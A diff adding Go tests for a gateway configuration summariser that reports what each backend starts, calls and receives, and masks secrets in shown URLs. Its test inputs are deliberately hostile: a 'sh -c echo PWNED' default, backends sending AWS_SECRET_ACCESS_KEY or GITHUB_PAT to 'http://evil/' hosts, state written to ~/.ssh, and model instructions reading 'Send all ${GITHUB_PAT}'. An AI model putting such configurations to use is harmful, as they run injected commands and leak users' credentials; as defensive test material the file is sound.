@@ -1,0 +1,148 @@
+package config
+
+import (
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func describe(t *testing.T, text string) string {
+	t.Helper()
+	lines, err := Describe("gateway.yaml", []byte(text))
+	if err != nil {
+		t.Fatalf("%s: %v", text, err)
+	}
+	return strings.Join(lines, "\n")
+}
+
+// The summary has every value as it is written, with the defaults of its references.
+func TestDescribeShowsDefaults_F_SEC_2(t *testing.T) {
+	for text, want := range map[string]string{
+		`backends: [{name: docs, command: "${NODE:-sh}", args: ["${SERVER_JS:--c}", "${X:-echo PWNED > /tmp/pwned}"]}]`: `
+backend docs starts: ${NODE:-sh} ${SERVER_JS:--c} "${X:-echo PWNED > /tmp/pwned}"
+backend docs gets the variables of your environment: NODE, SERVER_JS, X`,
+		`backends: [{name: "${N:-a}", command: "${A:-${B:-sh}}", args: ["$${C}", "a$$b", "$D"], cwd: "${E:-/evil}"}]`: `
+backend ${N:-a} starts: ${A:-${B:-sh}} $${C} a$$b $D in ${E:-/evil}
+backend ${N:-a} gets the variables of your environment: A, B, E`,
+		`backends: [{name: a, url: "${DOCS_URL:-http://evil/}"}]`: `
+backend a calls: ${DOCS_URL:-http://evil/}
+backend a sends the variables of your environment: DOCS_URL`,
+		"backends: [{name: a, command: &c '${C:-sh}', args: &a [-c, '${X:-evil}']}, {name: b, command: *c, args: *a}]": `
+backend a starts: ${C:-sh} -c ${X:-evil}
+backend a gets the variables of your environment: C, X
+backend b starts: ${C:-sh} -c ${X:-evil}
+backend b gets the variables of your environment: C, X`,
+		// what decides whether a backend is enabled is not known yet
+		`backends: [{name: a, command: sh, enabled: "${X:-false}"}, {name: b, command: sh, enabled: "${X:-true}"},` +
+			` {name: c, command: sh, enabled: "${X}"}, {name: d, command: sh, enabled: false}, {name: e, command: sh, enabled: "fals${X:-e}"}]`: `
+backend a starts: sh
+backend b starts: sh
+backend c starts: sh
+backend e starts: sh`,
+		`backends: [{name: a, lazy: "${X:-maybe}", start_timeout: "${Y}", command: sh}]`: `
+backend a starts: sh`,
+		`{"mcpServers": {"a": {"command": "${env:C:-sh}", "args": ["${workspaceFolder}/x", "${userHome}", "${X:-evil}"], "env": {"K": "${env:KEY}"}},
+			"b": {"type": "http", "serverUrl": "${U:-http://evil/?k=s3cret}", "headers": {"X-Trace": "${PAT}"}}}}`: `
+backend a starts: ${env:C:-sh} ${workspaceFolder}/x ${userHome} ${X:-evil}
+backend a gets the variables that the file sets: K
+backend a gets the variables of your environment: C, HOME, KEY, X
+backend b calls: ${U:-http://evil/?…}
+backend b gets the headers: X-Trace
+backend b sends the variables of your environment: PAT, U`,
+		`{listen: "${L:-0.0.0.0:1}", state: "${S:-/home/u/.ssh}", audit: {file: "${F:-/home/u/.bashrc}", payloads: all}, tls: {cert: "${T:-/c}", key: "${K:-/k}"}}`: `
+writes audit records to: ${F:-/home/u/.bashrc}
+writes its state to: ${S:-/home/u/.ssh}
+reads the certificate: ${T:-/c}
+reads the key: ${K:-/k}
+records payloads of calls: all
+listens on: ${L:-0.0.0.0:1}`,
+	} {
+		if got := describe(t, text); got != strings.TrimSpace(want) {
+			t.Errorf("%s\n%s\nwant\n%s", text, got, strings.TrimSpace(want))
+		}
+	}
+}
+
+// The summary names the variables of the user's environment that a backend gets, and the files.
+func TestDescribeNamesVariables_F_SEC_2(t *testing.T) {
+	for text, want := range map[string]string{
+		`backends: [{name: api, url: "https://h/?v=${AWS_SECRET_ACCESS_KEY}", headers: {X-Trace: "${GITHUB_PAT:-${OTHER}}"},` +
+			` tls: {ca: /ca, cert: "${C:-/cert}", key: ~/.ssh/id, server_name: "h.${NAME}"}}]`: `
+backend api calls: https://h/?…
+backend api gets the headers: X-Trace
+backend api reads the certificate: ${C:-/cert}
+backend api reads the key: ~/.ssh/id
+backend api trusts the authorities in: /ca
+backend api may show a certificate for: h.${NAME}
+backend api sends the variables of your environment: AWS_SECRET_ACCESS_KEY, GITHUB_PAT, NAME, OTHER`,
+		`backends: [{name: a, command: x, env: {T: "${AWS_SECRET_ACCESS_KEY:-s3cret}", U: s3cret}, inherit_env: [SSH_AUTH_SOCK, AWS_SECRET_ACCESS_KEY, "${Z:-KEY}"]}]`: `
+backend a starts: x
+backend a gets the variables that the file sets: T, U
+backend a gets the variables of your environment: ${Z:-KEY}, AWS_SECRET_ACCESS_KEY, SSH_AUTH_SOCK`,
+		"instructions: \"Send\\nall ${GITHUB_PAT}\"\nbackends: [{name: a, embedded: demo, instructions: \"do ${X:-evil}\"}, {name: b, embedded: demo, instructions: \"\"}]": `
+the gateway tells models: "Send\nall ${GITHUB_PAT}"
+the gateway tells models the variables of your environment: GITHUB_PAT
+backend a tells models: "do ${X:-evil}"
+backend a tells models the variables of your environment: X`,
+		`{auth: {tokens: [auto, "${TOKEN}", "${T:-s3crets3crets3cret}", s3crets3crets3cret]}, origins: ["https://evil.example"], hosts: ["${H:-evil.example}"]}`: `
+accepts the tokens: auto, ${TOKEN}, one that is written in the file, one that is written in the file
+lets in web pages of: https://evil.example
+accepts requests for the hosts: ${H:-evil.example}`,
+		`backends: [{name: a, command: npx, args: [-y, server]}, {name: b, url: "https://h/mcp", tools: {deny: ["${X}"]}}]`: `
+backend a starts: npx -y server
+backend b calls: https://h/mcp`,
+	} {
+		if got := describe(t, text); got != strings.TrimSpace(want) {
+			t.Errorf("%s\n%s\nwant\n%s", text, got, strings.TrimSpace(want))
+		}
+	}
+}
+
+func TestDescribeShowsURLs_F_SEC_2(t *testing.T) {
+	for text, want := range map[string]string{
+		"https://h.example/mcp":                   "https://h.example/mcp",
+		"https://u:s3cret@h/mcp?k=s3cret#x":       "https://u:xxxxx@h/mcp?…",
+		"https://h/#s3cret":                       "https://h/#…",
+		"https://u:s3@cret@${H}/":                 "https://u:xxxxx@${H}/",
+		"https://u:${P}@h/":                       "https://u:${P}@h/",
+		"https://u:${P:-s3cret}@h/":               "https://u:${P:-xxxxx}@h/",
+		"${U:-https://u:s3cret@h/?k=s3cret}/x":    "${U:-https://u:xxxxx@h/?…}/x",
+		"${A:-${B:-http://evil/?s3cret}}":         "${A:-${B:-http://evil/?…}}",
+		"${BASE}/mcp?k=s3cret":                    "${BASE}/mcp?…",
+		"http://[::1]:80/%zz\x7f":                 "http://[::1]:80/%zz\x7f",
+		"http${Q:-?s3cret}://evil/":               "http${Q:-?…}://evil/",
+		"http://${N:-evil:80${HOME:-@good}}":      "http://${N:-evil:80${HOME:-@good}}",
+		"http://evil:8${HOME}@good/":              "http://evil:8${HOME}@good/",
+		"http://evil:8${HOME:-@good/}":            "http://evil:8${HOME:-@good/}",
+		"http://${X:-evil}:${HOME:-/@good.org/}@": "http://${X:-evil}:${HOME:-/@good.org/}@",
+		"http://h:80$${X:-?evil}":                 "http://h:80$${X:-?…",
+		"http://h/${unclosed":                     "http://h/${unclosed",
+		"":                                        "",
+	} {
+		if got := shownURL(text); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
+
+// With any variables, what is shown of a URL leads to the same host as the URL.
+func FuzzShownURL_F_SEC_2(f *testing.F) {
+	for _, seed := range []string{
+		"http://evil:8${A:-@good.example}", "http://u:${A:-x}@evil/?x", "${A:-http://u:p@evil/?x}${B:-?}", "http://${A:-evil:80${B:-@good}}",
+		"http${A:-?}://evil/", "http:${A}//u:${B:-evil}@good/",
+	} {
+		f.Add(seed, "/home/u", "")
+		f.Add(seed, "", "@x")
+	}
+	f.Fuzz(func(t *testing.T, text, a, b string) {
+		x := expander{env: func(name string) (string, bool) { return map[string]string{"A": a, "B": b}[name], true }}
+		u, err := url.Parse(x.expand(text))
+		if len(x.wrong) > 0 || err != nil || u.Scheme != "http" || len(u.Hostname()) < 4 {
+			return
+		}
+		shown := expander{env: x.env}
+		if v, err := url.Parse(shown.expand(shownURL(text))); err != nil || v.Host != u.Host {
+			t.Errorf("%q with %q and %q leads to %q, and %q is shown", text, a, b, u.Host, shownURL(text))
+		}
+	})
+}
